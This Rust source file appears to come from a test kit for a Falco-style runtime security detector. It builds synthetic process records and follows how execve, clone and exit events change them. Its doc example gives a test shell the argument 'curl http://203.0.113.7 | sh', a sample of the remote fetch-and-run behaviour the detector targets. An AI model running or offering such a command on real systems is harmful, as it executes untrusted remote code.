//! Processes of a recording: as they are when it begins, and as its events change them.

use std::collections::BTreeMap;

use k8srd_capture::ProcessRow;
use k8srd_core::field::Key;
use k8srd_core::kind::{EventKind, KindInfo, ParamInfo};
use k8srd_core::value::Lookup;

use super::{BuildError, ErrorKind, built};
use crate::event::{TestEvent, param_datum};
use crate::value::{Datum, TestValue, bits};

/// Falco's flag of a thread that has the id of its process (`PPM_CL_IS_MAIN_THREAD`).
const MAIN_THREAD: u32 = 1 << 30;
/// What a program may be called in the kernel (`TASK_COMM_LEN`, without the NUL byte).
const COMM: usize = 15;
/// All capabilities of Linux 6.
const ALL_CAPABILITIES: u64 = (1 << 41) - 1;

/// A process, or a thread of one, by the names that Falco gives to what it knows of it.
///
/// ```
/// use k8srd_testkit::capture::TestProcess;
///
/// let shell = TestProcess::new(4711, "sh")
///     .with("ptid", 812)
///     .with("args", ["-c", "curl http://203.0.113.7 | sh"])
///     .with("cgroups", ["memory=/docker/9e2f1c1b…"])
///     .with("flags", "EXE_UPPER_LAYER");
/// # let _ = shell;
/// ```
#[derive(Clone, Debug)]
pub struct TestProcess {
    values: Vec<(&'static str, Datum)>,
}

impl TestProcess {
    /// A process of root's which was started by init and runs `/usr/bin/NAME`: what is not said
    /// [with](TestProcess::with) its name is as simple as can be.
    pub fn new(pid: i64, name: &str) -> Self {
        let mut process = Self { values: Vec::new() };
        for name in ["tid", "pid", "vtid", "vpid", "sid", "pgid", "vpgid"] {
            process.set(name, Datum::I64(pid));
        }
        process.set("ptid", Datum::I64(i64::from(pid != 1)));
        for name in ["comm", "exe"].into_iter().zip([name, name]) {
            process.set(name.0, Datum::Str(name.1.into()));
        }
        process.set("trusted_exepath", Datum::Str(format!("/usr/bin/{name}").into()));
        for name in ["cwd", "root"] {
            process.set(name, Datum::Str(b"/".to_vec()));
        }
        for name in ["args", "env", "cgroups"] {
            process.set(name, Datum::Bytes(Vec::new()));
        }
        for name in ["uid", "gid", "tty", "flags", "cap_inheritable", "pidns_init_start_ts"] {
            process.set(name, Datum::U64(0));
        }
        for name in ["vm_size", "vm_rss", "vm_swap", "pgft_maj", "pgft_min"] {
            process.set(name, Datum::U64(0));
        }
        for name in ["exe_ino", "exe_ino_ctime", "exe_ino_mtime"] {
            process.set(name, Datum::U64(0));
        }
        for name in ["cap_permitted", "cap_effective"] {
            process.set(name, Datum::U64(ALL_CAPABILITIES));
        }
        process.set("loginuid", Datum::U64(u32::MAX.into()));
        process.set("fdlimit", Datum::U64(1024));
        process
    }

    /// Says more of it, by the names of the params of `execve` and `clone`, where `flags` are those of
    /// the executable, and by `sid` (the session) and `root` (its root directory).
    ///
    /// # Panics
    ///
    /// Where there is no such name, or the value is not of its type.
    #[must_use]
    #[track_caller]
    pub fn with(self, name: &str, value: impl Into<TestValue>) -> Self {
        built(self.try_with(name, value))
    }

    /// As [`TestProcess::with`], for a name or value that comes from outside the test.
    ///
    /// # Errors
    ///
    /// Where there is no such name, or the value is not of its type.
    pub fn try_with(mut self, name: &str, value: impl Into<TestValue>) -> Result<Self, BuildError> {
        let param = named(name).ok_or_else(|| ErrorKind::UnknownName(name.into()))?;
        let datum = param_datum(&param, value.into()).map_err(ErrorKind::Process)?;
        self.set(param.name, datum);
        Ok(self)
    }

    pub(crate) fn tid(&self) -> i64 {
        self.signed("tid")
    }

    pub(super) fn row(&self) -> ProcessRow<'_> {
        let narrow = |name| u32::try_from(self.number(name)).unwrap_or(u32::MAX);
        let flags = self.datum("flags");
        let has_flag = |name| has_flag(EventKind::EXECVE, flags, name);
        let mut row = ProcessRow::default();
        (row.tid, row.pid, row.ptid) = (self.tid(), self.signed("pid"), self.signed("ptid"));
        (row.sid, row.pgid) = (Some(self.signed("sid")), Some(self.signed("pgid")));
        row.vpgid = Some(self.signed("vpgid"));
        (row.vtid, row.vpid) = (Some(self.signed("vtid")), Some(self.signed("vpid")));
        (row.comm, row.exe) = (self.text("comm"), self.text("exe"));
        (row.exepath, row.args) = (self.text("trusted_exepath"), self.text("args"));
        (row.cwd, row.root) = (self.text("cwd"), self.text("root"));
        (row.env, row.cgroups) = (self.text("env"), self.text("cgroups"));
        row.fdlimit = self.number("fdlimit");
        row.flags = if row.tid == row.pid { MAIN_THREAD } else { 0 };
        (row.uid, row.gid) = (narrow("uid"), narrow("gid"));
        (row.vmsize_kb, row.vmrss_kb) = (Some(narrow("vm_size")), Some(narrow("vm_rss")));
        row.vmswap_kb = Some(narrow("vm_swap"));
        (row.pfmajor, row.pfminor) = (Some(self.number("pgft_maj")), Some(self.number("pgft_min")));
        row.pidns_init_start_ts = Some(self.number("pidns_init_start_ts"));
        (row.tty, row.loginuid) = (Some(narrow("tty")), Some(narrow("loginuid")));
        row.cap_inheritable = Some(self.number("cap_inheritable"));
        row.cap_permitted = Some(self.number("cap_permitted"));
        row.cap_effective = Some(self.number("cap_effective"));
        row.exe_writable = has_flag("EXE_WRITABLE");
        row.exe_upper_layer = has_flag("EXE_UPPER_LAYER");
        row.exe_from_memfd = has_flag("EXE_FROM_MEMFD");
        row.exe_lower_layer = has_flag("EXE_LOWER_LAYER");
        row.exe_ino = Some(self.number("exe_ino"));
        row.exe_ino_ctime = Some(self.number("exe_ino_ctime"));
        row.exe_ino_mtime = Some(self.number("exe_ino_mtime"));
        row
    }

    fn set(&mut self, name: &'static str, datum: Datum) {
        self.values.retain(|(own, _)| *own != name);
        self.values.push((name, datum));
    }

    fn datum(&self, name: &str) -> Option<&Datum> {
        self.values.iter().find(|(own, _)| *own == name).map(|(_, datum)| datum)
    }

    fn signed(&self, name: &str) -> i64 {
        match self.datum(name) {
            Some(Datum::I64(n)) => *n,
            _ => 0,
        }
    }

    fn number(&self, name: &str) -> u64 {
        match self.datum(name) {
            Some(Datum::U64(n)) => *n,
            Some(Datum::I64(n)) => u64::try_from(*n).unwrap_or_default(),
            _ => 0,
        }
    }

    fn text(&self, name: &str) -> &[u8] {
        match self.datum(name) {
            Some(Datum::Str(bytes) | Datum::Bytes(bytes)) => bytes,
            _ => b"",
        }
    }
}

/// What is known of a process under this name.
fn named(name: &str) -> Option<ParamInfo> {
    let of = |kind, name: &str| KindInfo::of(kind).and_then(|info| info.param(name));
    let (_, param) = match name {
        "res" | "filename" => return None,
        "sid" => of(EventKind::EXECVE, "pgid")?,
        "root" => of(EventKind::EXECVE, "cwd")?,
        name => of(EventKind::EXECVE, name).or_else(|| of(EventKind::CLONE, name))?,
    };
    let own = match name {
        "sid" => "sid",
        "root" => "root",
        _ => param.name,
    };
    Some(ParamInfo { name: own, ..*param })
}

/// Tells an event what it leaves open of its process, and the process what the event changes.
pub(super) fn follow(
    now: &mut BTreeMap<i64, TestProcess>,
    tid: i64,
    info: &KindInfo,
    event: &mut TestEvent,
) -> Result<(), BuildError> {
    match info.kind {
        EventKind::EXECVE | EventKind::EXECVEAT => {
            if let Some(process) = now.get_mut(&tid) {
                exec(process, info, event)?;
            }
        }
        EventKind::CLONE | EventKind::CLONE3 | EventKind::FORK | EventKind::VFORK => {
            clone(now, tid, info, event);
        }
        EventKind::PROCEXIT => {
            now.remove(&tid);
        }
        _ => {}
    }
    Ok(())
}

fn exec(
    process: &mut TestProcess,
    info: &KindInfo,
    event: &mut TestEvent,
) -> Result<(), BuildError> {
    tell(info, event, "res", &Datum::I64(0));
    let path = |name| match told(info, event, name) {
        Some(Datum::Str(path)) if path.starts_with(b"/") => Some(path.clone()),
        _ => None,
    };
    let ran = path("trusted_exepath").or_else(|| path("filename")).or_else(|| path("exe"));
    if !matches!(told(info, event, "res"), Some(Datum::I64(0))) {
        let tried = path("filename").or_else(|| path("exe"));
        for name in ["filename", "exe"] {
            tried.iter().for_each(|path| tell(info, event, name, &Datum::Str(path.clone())));
        }
        tell(info, event, "args", &Datum::Bytes(Vec::new()));
        fill(process, info, event);
        return Ok(());
    }
    let path = ran.ok_or(ErrorKind::RunsNothing)?;
    let name = path.rsplit(|&byte| byte == b'/').next().unwrap_or_default();
    process.set("comm", Datum::Str(name.get(..COMM).unwrap_or(name).to_vec()));
    process.set("exe", Datum::Str(path.clone()));
    process.set("args", Datum::Bytes(Vec::new()));
    tell(info, event, "filename", &Datum::Str(path.clone()));
    process.set("trusted_exepath", Datum::Str(path));
    learn(process, info, event);
    fill(process, info, event);
    Ok(())
}

fn clone(now: &mut BTreeMap<i64, TestProcess>, tid: i64, info: &KindInfo, event: &mut TestEvent) {
    tell(info, event, "flags", &Datum::U64(0));
    let signed = |name| match told(info, event, name) {
        Some(Datum::I64(n)) => Some(*n),
        _ => None,
    };
    let (child, parent) = (signed("res"), signed("ptid"));
    match (child, now.get(&tid)) {
        (Some(1..), Some(process)) => {
            fill(process, info, event);
            // Inside a container the parent knows the child by another id.
            if let (Some(child), true) = (child, process.signed("vtid") == tid) {
                let thread = has_flag(info.kind, told(info, event, "flags"), "CLONE_THREAD");
                let process = process.child(child, thread);
                now.insert(child, process);
            }
        }
        (Some(0), own) => {
            let of_parent = || Some(now.get(&parent?)?.child(tid, false));
            let Some(mut process) = own.cloned().or_else(of_parent) else { return };
            learn(&mut process, info, event);
            fill(&process, info, event);
            now.insert(tid, process);
        }
        (_, Some(process)) => fill(process, info, event),
        (_, None) => {}
    }
}

impl TestProcess {
    /// What it becomes the parent of: a process, or another thread of its own.
    fn child(&self, tid: i64, thread: bool) -> Self {
        let mut child = self.clone();
        child.set("tid", Datum::I64(tid));
        child.set("vtid", Datum::I64(tid));
        if !thread {
            child.set("pid", Datum::I64(tid));
            child.set("vpid", Datum::I64(tid));
            child.set("ptid", Datum::I64(self.signed("pid")));
        }
        child
    }
}

/// Whether the flag of this name is among the `flags` of an event of this kind.
fn has_flag(kind: EventKind, flags: Option<&Datum>, name: &str) -> bool {
    let names = KindInfo::of(kind).and_then(|info| info.param("flags")).map(|(_, it)| it.flags);
    let bit = names.and_then(|names| bits(name.as_bytes(), names)).map(u64::from);
    matches!((flags, bit), (Some(Datum::U64(flags)), Some(bit)) if flags & bit != 0)
}

/// Whether a param of this name says something of the process itself. The flags of a call that makes
/// one do not.
fn is_of_process(info: &KindInfo, param: &ParamInfo) -> bool {
    let makes_one = !matches!(info.kind, EventKind::EXECVE | EventKind::EXECVEAT);
    named(param.name).is_some() && !(makes_one && param.name == "flags")
}

/// Takes over what the event says of the process.
fn learn(process: &mut TestProcess, info: &KindInfo, event: &TestEvent) {
    for param in info.params.iter().filter(|param| is_of_process(info, param)) {
        if let Some(datum) = told(info, event, param.name) {
            process.set(param.name, datum.clone());
        }
    }
}

/// Tells the event all of the process that it does not say itself, but for the directory, which no
/// driver of today tells.
fn fill(process: &TestProcess, info: &KindInfo, event: &mut TestEvent) {
    let is_told = |param: &&ParamInfo| is_of_process(info, param) && param.name != "cwd";
    for param in info.params.iter().filter(is_told) {
        if let Some(datum) = process.datum(param.name) {
            tell(info, event, param.name, datum);
        }
    }
}

fn told<'e>(info: &KindInfo, event: &'e TestEvent, name: &str) -> Option<&'e Datum> {
    let key = Key::param(info.param(name)?.0);
    event.told().iter().find(|(own, _)| *own == key).and_then(|(_, value)| match value {
        Lookup::Known(datum) => Some(datum),
        Lookup::Absent | Lookup::Pending => None,
    })
}

/// Gives a param a value that it has not been given.
fn tell(info: &KindInfo, event: &mut TestEvent, name: &str, datum: &Datum) {
    if let (None, Some((place, _))) = (told(info, event, name), info.param(name)) {
        event.set(Key::param(place), Lookup::Known(datum.clone()));
    }
}
